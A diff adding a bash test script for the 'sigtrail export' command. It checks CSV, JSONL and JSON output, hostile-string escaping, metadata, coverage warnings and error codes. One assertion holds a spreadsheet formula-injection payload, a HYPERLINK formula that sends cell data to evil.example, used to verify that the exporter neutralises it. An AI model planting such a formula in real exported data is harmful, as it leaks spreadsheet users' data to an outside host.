@@ -1,0 +1,100 @@
+#!/bin/bash
+# export.sh: `sigtrail export` in csv, jsonl and json, read back with real
+# parsers (python's csv and json) and compared with the database, with
+# hostile strings (formula injection, CSV/JSON syntax, control bytes,
+# invalid UTF-8); -o, --meta, filters, the progress bar, errors.
+. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
+DB=$T/k.db
+fixture_db "$DB"
+add_hostile_rows "$DB"
+rows=$(q "$DB" 'select count(*) from signals')
+is "$(q "$DB" "select count(*) from signals where sender_pid > 4000")" 18 "18 hostile rows added"
+
+for fmt in csv jsonl json; do
+	run_cli export --db "$DB" --format "$fmt" -o "$T/all.$fmt"
+	is "$RC" 0 "$fmt: exit 0"
+	like "$ERR" "exported $rows rows \($fmt, times in UTC\) to $T/all.$fmt" "$fmt: says how many rows, and UTC"
+	is "$(python3 "$CLI_TESTS/roundtrip.py" "$fmt" "$T/all.$fmt" "$DB")" "ok $rows" \
+		"$fmt: a real parser reads back exactly the database's rows (hostile strings included)"
+done
+
+# CSV details a spreadsheet user meets.
+is "$(head -c 3 "$T/all.csv" | od -An -c | tr -d ' ')" "id," "csv: header first, no BOM"
+is "$(head -1 "$T/all.csv" | tail -c 2 | od -An -c | tr -d ' ')" '\r\n' "csv: CRLF line ends"
+like "$(cat "$T/all.csv")" '"'"'"'=HYPERLINK\(""http://evil.example/\?""&A1,""click""\)"' "csv: a formula is guarded with ' and its quotes doubled"
+like "$(cat "$T/all.csv")" ",-$GROUP_PGID," "csv: a negative number (target_arg -PGID) stays a number"
+like "$(cat "$T/all.csv")" '"bad\\xFF \\xC0\\xAF bytes\."' "csv: invalid UTF-8 as \\xNN, not dropped"
+ok "csv: valid UTF-8" iconv -f UTF-8 -t UTF-8 "$T/all.csv" -o /dev/null
+ok "jsonl: valid UTF-8" iconv -f UTF-8 -t UTF-8 "$T/all.jsonl" -o /dev/null
+like "$(cat "$T/all.jsonl")" '"sender_cmdline":"bad\\\\xFF \\\\xC0\\\\xAF bytes\."' "jsonl: invalid UTF-8 as the text \\xNN"
+like "$(cat "$T/all.jsonl")" '"ctl \\u0001\\u001B\[31m red\\u007F del"' "jsonl: control characters \\u-escaped"
+like "$(cat "$T/all.jsonl")" '"sep \\u2028 \\u2029"' "jsonl: U+2028/9 escaped"
+is "$(wc -l <"$T/all.jsonl")" "$rows" "jsonl: one line per row"
+is "$(stat -c %a "$T/all.csv")" 640 "-o: the file is mode 0640"
+is "$(ls "$T" | grep -c tmp-)" 0 "-o: no temporary file left"
+
+# The json document's metadata.
+is "$(python3 - "$T/all.json" <<'PY'
+import json, sys
+d = json.load(open(sys.argv[1]))
+print(d["sigtrail_version"] != "", d["schema_version"], d["time_zone"], d["range"]["since"],
+      d["range"]["until"].endswith("Z"), d["row_count"] == len(d["rows"]), d["hosts"],
+      d["first_row"], d["coverage"]["recorded"], d["format"], sorted(d)[:4])
+PY
+)" "True 2 UTC None True True ['vm'] 2026-11-22T04:07:33.532Z True json ['coverage', 'database', 'filters', 'first_row']" \
+	"json: header has version, schema, zone, range, row count, hosts, coverage"
+
+sqlite3 "$DB" 'delete from collector_runs'
+t0=$(q "$DB" 'select min(epoch_ms) from signals')
+add_run "$DB" $((t0 - 1000)) $((t0 + 2000)) stopped 5
+add_run "$DB" $((t0 + 5000)) $((t0 + 3600000)) crashed
+run_cli export --db "$DB" --format json --since @$((t0 / 1000)) --until @$((t0 / 1000 + 3000)) --signal KILL --failed
+is "$(printf '%s' "$OUT" | python3 -c '
+import json, sys
+d = json.load(sys.stdin)
+c = d["coverage"]
+print(d["filters"], d["row_count"], c["complete"], len(c["gaps"]), c["lost"]["kernel"], c["lost"]["total"],
+      [r["status"] for r in c["runs"]], d["range"]["since"])')" \
+	"{'signal': 9, 'failed': True} 0 False 1 5 5 ['stopped', 'crashed'] 2026-11-22T04:07:33.000Z" \
+	"json: filters, coverage gaps and losses of the range"
+like "$ERR" "warning: coverage: the collector was NOT running for 3s between .*; it LOST 5 events" \
+	"a gap or a loss is also a warning on stderr"
+sqlite3 "$DB" 'delete from collector_runs'
+run_cli export --db "$DB" --format csv
+like "$ERR" "warning: coverage: no coverage data recorded" "csv: the coverage is told on stderr"
+
+# --meta beside a CSV.
+run_cli export --db "$DB" --signal KILL --format csv -o "$T/kill.csv" --meta "$T/kill.json"
+is "$(python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); print(d["row_count"], d["format"], "rows" in d)' "$T/kill.json")" \
+	"$(q "$DB" 'select count(*) from signals where signal = 9') csv False" "--meta: the metadata without rows"
+is "$(python3 -c 'import csv,sys; print(len(list(csv.reader(open(sys.argv[1], newline="")))) - 1)' "$T/kill.csv")" \
+	"$(q "$DB" 'select count(*) from signals where signal = 9')" "filters apply to exports"
+
+# An empty export is still a valid document.
+run_cli export --db "$DB" --since 2030-01-01 --format json
+is "$(printf '%s' "$OUT" | python3 -c 'import json,sys; d=json.load(sys.stdin); print(d["row_count"], d["rows"], d["first_row"])')" \
+	"0 [] None" "json with no rows"
+run_cli export --db "$DB" --since 2030-01-01
+is "$(printf '%s' "$OUT" | tr -d '\r')" "$(head -1 "$T/all.csv" | tr -d '\r')" "csv with no rows: the header alone"
+
+# Progress bar (forced: stderr is not a terminal here).
+run_cli export --db "$DB" --progress -o "$T/p.csv"
+like "$ERR" 'export \[#{30}\] 100% [0-9]+/[0-9]+ rows' "--progress: a bar reaching 100%"
+run_cli export --db "$DB" -o "$T/p.csv"
+unlike "$ERR" 'export \[' "no bar when stderr is not a terminal"
+
+# Errors.
+run_cli export --db "$DB" --format xml
+is "$RC" 64 "--format xml: exit 64"
+like "$ERR" "--format 'xml': expected csv, jsonl or json" "--format named"
+run_cli export --db "$DB" -o "$T/no/such/dir/x.csv"
+is "$RC" 73 "unwritable output: exit 73"
+ok "unwritable output: nothing created" test ! -e "$T/no/such/dir"
+run_cli export --db "$DB" --since 2026-11-22 --until 2026-11-21
+is "$RC" 64 "--since after --until: exit 64"
+if [ -w /dev/full ]; then
+	run_cli export --db "$DB" -o - >/dev/null
+	"$SIGTRAIL" export --db "$DB" >/dev/full 2>"$T/err"
+	is "$?" 74 "a full disk: exit 74"
+fi
+done_testing
